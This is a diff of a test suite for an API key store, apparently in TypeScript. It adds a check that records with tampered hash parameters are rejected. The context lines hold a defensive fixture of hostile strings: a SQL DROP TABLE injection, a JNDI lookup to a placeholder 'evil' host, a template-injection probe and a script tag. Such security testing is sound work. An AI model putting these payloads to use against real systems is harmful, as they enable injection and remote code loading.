@@ -154,6 +154,12 @@ describe.each(backends)('API key store contract: %s', (_name, open) => {
     expect((await store.list()).map((r) => r.keyId).sort()).toEqual(ids);
   });
 
+  it('refuses to read back a record whose hash parameters were tampered with', async () => {
+    const { store } = await open();
+    await store.put(record('tampered', { hash: { ...record('x').hash, N: 2 ** 30 } }), { ifAbsent: true });
+    await expect(store.get('tampered')).rejects.toThrow(/malformed|not an API key store/);
+  });
+
   it('stores hostile strings verbatim', async () => {
     const { store } = await open();
     const hostile = `"; DROP TABLE keys; -- \${jndi:ldap://evil/x} {{7*7}} <script>`;
